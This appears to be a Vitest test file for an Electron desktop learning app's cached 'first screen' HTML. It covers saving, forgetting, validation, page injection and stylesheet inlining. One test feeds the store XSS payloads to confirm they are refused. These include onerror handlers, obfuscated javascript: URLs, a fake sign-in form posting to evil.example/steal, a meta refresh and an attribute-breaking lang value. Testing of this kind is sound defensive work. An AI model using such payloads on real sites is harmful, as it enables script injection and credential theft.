import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  FIRST_SCREEN_ID,
  FIRST_SCREEN_MAX_BYTES,
  type FirstScreenInput,
} from '../../../electron/common/first-screen';
import {
  buildIdOf,
  createFirstScreenStore,
  FIRST_SCREEN_FILE,
  pageWithFirstScreen,
  readFirstScreen,
  type SavedFirstScreen,
} from '../../../electron/core/desktop/first-screen';
import { firstPageResponse } from '../../../electron/core/desktop/app-protocol';

/** index.html as Vite builds it (renderer/index.html, with the hashed files). */
const INDEX = `<!doctype html>
<html lang="en">
  <head>
    <title>Learning Desktop</title>
    <script type="module" crossorigin src="./assets/index-AbC123.js"></script>
    <link rel="stylesheet" crossorigin href="./assets/index-XyZ789.css">
  </head>
  <body>
    <div id="root"></div>
  </body>
</html>`;

const CARD =
  '<div class="layout"><li class="today-card card" data-frame-testid="today-continue">Statistics 統計 &lt;b&gt;</li></div>';

const input = (over: Partial<FirstScreenInput> = {}): FirstScreenInput => ({
  html: CARD,
  build: 'index-AbC123.js',
  lang: 'zh-TW',
  dir: 'ltr',
  theme: 'dark',
  siteIds: ['site-1'],
  ...over,
});

/** A site list where only `withData` have been synced. */
const sitesWith = (...withData: string[]) => ({
  getSite: (id: string) => ({
    lastSyncedAt: withData.includes(id) ? '2026-11-28T00:00:00.000Z' : null,
  }),
});

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'ld-first-screen-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe('the first frame from the last session', () => {
  it('is kept for a school with data, read back as sent, and forgotten', async () => {
    const store = createFirstScreenStore(dir, sitesWith('site-1'));
    expect(readFirstScreen(dir)).toBeNull();
    await expect(store.save(input())).resolves.toEqual({ saved: true });
    const read = readFirstScreen(dir);
    expect(read).toMatchObject(input());
    expect(Date.parse(read!.savedAt)).not.toBeNaN();
    await store.forget();
    expect(existsSync(join(dir, FIRST_SCREEN_FILE))).toBe(false);
    expect(readFirstScreen(dir)).toBeNull();
  });

  it('is refused when it shows a school without data here, shows none, or carries markup the app never renders', async () => {
    const store = createFirstScreenStore(dir, sitesWith('site-1'));
    expect(await store.save(input({ siteIds: ['site-1', 'site-gone'] }))).toMatchObject({
      saved: false,
    });
    expect(await store.save(input({ siteIds: [] }))).toMatchObject({ saved: false });
    for (const html of [
      '<div><script src="/assets/x.js"></script></div>',
      '<img src="x" onerror="alert(1)">',
      '<a href="javascript:alert(1)">x</a>',
      // Spelled so that a pattern over the text misses them; parsed, each is what it is.
      '<img/src=x/onerror=alert(1)>',
      '<a href="jav&#x61;script:alert(1)">x</a>',
      '<form action="https://evil.example/steal"><button>Sign in again</button></form>',
      '<iframe src="/"></iframe>',
      '<style>body{display:none}</style>',
      '<meta http-equiv="refresh" content="0;url=https://example.com">',
      '<base href="https://example.com/">',
      'x'.repeat(FIRST_SCREEN_MAX_BYTES + 1),
    ])
      expect(await store.save(input({ html })), html.slice(0, 40)).toMatchObject({ saved: false });
    expect(await store.save(input({ lang: 'en"><script>' }))).toMatchObject({ saved: false });
    expect(existsSync(join(dir, FIRST_SCREEN_FILE))).toBe(false);
  });

  it('a forget asked for after a save wins, even while the save is being written', async () => {
    const store = createFirstScreenStore(dir, sitesWith('site-1'));
    const saving = store.save(input());
    const forgetting = store.forget();
    await Promise.all([saving, forgetting]);
    expect(readFirstScreen(dir)).toBeNull();
  });

  it('a damaged, oversized or hand-edited file is no frame, never an error', () => {
    const file = join(dir, FIRST_SCREEN_FILE);
    const good = { ...input(), savedAt: new Date().toISOString() };
    for (const content of [
      '{"html": "<div',
      'null',
      JSON.stringify({ ...good, html: 42 }),
      JSON.stringify({ ...good, siteIds: 'site-1' }),
      JSON.stringify({ ...good, dir: 'sideways' }),
      JSON.stringify({ ...good, theme: 'neon' }),
      JSON.stringify({ ...good, html: '<div onclick="x()">' }),
      JSON.stringify({ ...good, html: 'x'.repeat(FIRST_SCREEN_MAX_BYTES * 2 + 8192) }),
    ]) {
      writeFileSync(file, content);
      expect(readFirstScreen(dir), content.slice(0, 60)).toBeNull();
    }
    writeFileSync(file, JSON.stringify(good));
    expect(readFirstScreen(dir)).toMatchObject({ html: CARD });
  });

  it('goes into the page after #root: inert, hidden from assistive technology, with the saved language, direction and theme', () => {
    const screen: SavedFirstScreen = { ...input(), savedAt: '2026-11-28T00:00:00.000Z' };
    expect(buildIdOf(INDEX)).toBe('index-AbC123.js');
    const page = pageWithFirstScreen(INDEX, screen)!;
    expect(page).toContain(`<html lang="zh-TW" dir="ltr" data-theme="dark">`);
    expect(page).toContain(
      `<div id="root"></div><div id="${FIRST_SCREEN_ID}" class="first-screen" aria-hidden="true" inert>${CARD}</div>`,
    );
    // Without a stylesheet reader, the link stays.
    expect(page).toContain('<link rel="stylesheet" crossorigin href="./assets/index-XyZ789.css">');
    // The OS decides the theme when none was pinned.
    expect(pageWithFirstScreen(INDEX, { ...screen, theme: null })).toContain(
      '<html lang="zh-TW" dir="ltr">',
    );
  });

  it('inlines the stylesheet when asked, unless its text could end the element', () => {
    const screen: SavedFirstScreen = { ...input(), savedAt: '2026-11-28T00:00:00.000Z' };
    const asked: string[] = [];
    const page = pageWithFirstScreen(
      INDEX,
      screen,
      (href) => (asked.push(href), '.card{color:red}'),
    )!;
    expect(asked).toEqual(['./assets/index-XyZ789.css']);
    expect(page).toContain('<style>.card{color:red}</style>');
    expect(page).not.toContain('<link rel="stylesheet"');
    expect(pageWithFirstScreen(INDEX, screen, () => 'a{}</style><script>x</script>')).toContain(
      '<link rel="stylesheet"',
    );
    expect(pageWithFirstScreen(INDEX, screen, () => null)).toContain('<link rel="stylesheet"');
  });

  it('is not sent to another build, nor into a page without #root', () => {
    const screen: SavedFirstScreen = {
      ...input({ build: 'index-Old000.js' }),
      savedAt: '2026-11-28T00:00:00.000Z',
    };
    expect(pageWithFirstScreen(INDEX, screen)).toBeNull();
    expect(
      pageWithFirstScreen(INDEX.replace('<div id="root"></div>', '<main></main>'), {
        ...screen,
        build: 'index-AbC123.js',
      }),
    ).toBeNull();
  });

  it('is the Electron window’s first page over app:// (same headers as every answer), built from the renderer folder', async () => {
    writeFileSync(join(dir, 'index.html'), INDEX);
    const screen: SavedFirstScreen = { ...input(), savedAt: '2026-11-28T00:00:00.000Z' };
    const answer = (await firstPageResponse(dir, screen))!;
    expect(answer.status).toBe(200);
    expect(answer.headers['Content-Type']).toBe('text/html; charset=utf-8');
    expect(answer.headers['Content-Security-Policy']).toContain("script-src 'self'");
    expect(answer.body!.toString('utf8')).toContain(`id="${FIRST_SCREEN_ID}"`);
    expect(await firstPageResponse(dir, { ...screen, build: 'index-Other.js' })).toBeNull();
    expect(await firstPageResponse(join(dir, 'missing'), screen)).toBeNull();
    expect(readFileSync(join(dir, 'index.html'), 'utf8')).toBe(INDEX);
  });
});
